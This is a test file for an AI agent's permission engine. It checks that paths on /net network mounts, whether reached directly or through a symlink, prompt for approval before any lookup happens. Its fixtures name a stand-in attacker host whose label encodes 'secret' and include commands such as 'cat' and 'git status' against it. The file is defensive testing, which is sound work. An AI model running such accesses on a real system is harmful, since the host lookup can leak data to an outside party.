/**
 * Paths where looking reaches the network (/net/<host>, a link leading there): the engine judges
 * them by their text and asks, in every mode but bypassPermissions, unless a rule names them; the
 * checks that would look at them before approval (git's settings, a tool's validation) wait.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { symlinkSync } from "node:fs";
import { join } from "node:path";
import { GlobTool } from "../../src/tools/GlobTool/GlobTool.ts";
import { callTool, createTestContext } from "../helpers/testSession.ts";
import { Bash, createPlayground, decideFor, Grep, Read, Write, type Playground } from "./harness.ts";

let playground: Playground;
beforeAll(() => {
  playground = createPlayground();
  symlinkSync("/net/c2VjcmV0.evil.example/data", join(playground.project, "share"));
});
afterAll(() => playground.remove());

const decision = (options: Omit<Parameters<typeof decideFor>[0], "cwd">) => decideFor({ cwd: playground.project, ...options });

describe("a path on a network mount", () => {
  test("is asked about, naming the mount, whether written as such or reached through a link", async () => {
    for (const input of [{ file_path: "/net/c2VjcmV0.evil.example/x" }, { file_path: join(playground.project, "share", "x") }]) {
      const made = await decision({ tool: Read, input });
      expect(made.decision).toBe("ask");
      expect(made.reason).toContain("/net/c2VjcmV0.evil.example is a network mount: looking at anything there looks up and mounts that host");
    }
    const command = await decision({ tool: Bash, input: { command: "cat /net/c2VjcmV0.evil.example/x" } });
    expect([command.decision, command.reason]).toEqual(["ask", expect.stringContaining("is a network mount")]);
  });

  test("deny rules hold by its text, an allow rule naming it allows it, and bypassPermissions lets it through", async () => {
    expect((await decision({ tool: Read, input: { file_path: "/net/files.corp/x" }, rules: { deny: ["Read(//net/files.corp/**)"] } })).decision).toBe("deny");
    expect((await decision({ tool: Read, input: { file_path: join(playground.project, "share", "x") }, rules: { deny: ["Read(//net/c2VjcmV0.evil.example/**)"] } })).decision).toBe("deny");
    expect((await decision({ tool: Read, input: { file_path: "/net/files.corp/x" }, rules: { allow: ["Read(//net/files.corp/**)"] } })).decision).toBe("allow");
    expect((await decision({ tool: Read, input: { file_path: "/net/files.corp/x" }, mode: "bypassPermissions" })).decision).toBe("allow");
    expect((await decision({ tool: Write, input: { file_path: "/net/files.corp/x", content: "" }, mode: "acceptEdits" })).decision).toBe("ask");
  });

  test("a recursive read there with a deny rule that may cover its files asks even in bypassPermissions", async () => {
    const made = await decision({ tool: Grep, input: { pattern: "k", path: "/net/files.corp" }, rules: { deny: ["Read(//net/files.corp/secret/**)"] }, mode: "bypassPermissions" });
    expect(made.decision).toBe("ask");
    expect(made.reason).toContain("which nothing looks at before approval");
  });

  test("git's own settings are not read there: a read-only git command asks", async () => {
    const made = await decision({ tool: Bash, input: { command: "cd /net/c2VjcmV0.evil.example && git status" } });
    expect(made.decision).toBe("ask");
    expect(JSON.stringify(made.parts)).toContain("is a network mount");
  });

  test("a tool's validation, which looks at the path, waits for the decision", async () => {
    const context = await createTestContext({ cwd: playground.project, tools: [GlobTool] });
    // Without the wait, Glob's validation would say the folder does not exist: it had looked.
    const outcome = await callTool(context, "Glob", { pattern: "*", path: "/net/c2VjcmV0.evil.example" });
    expect(outcome.stage).toBe("permission");
    expect(outcome.text).toContain("is a network mount");
    const local = await callTool(context, "Glob", { pattern: "*", path: join(playground.project, "nope") });
    expect([local.stage, local.text]).toEqual(["validation", expect.stringContaining("does not exist")]);
  });
});
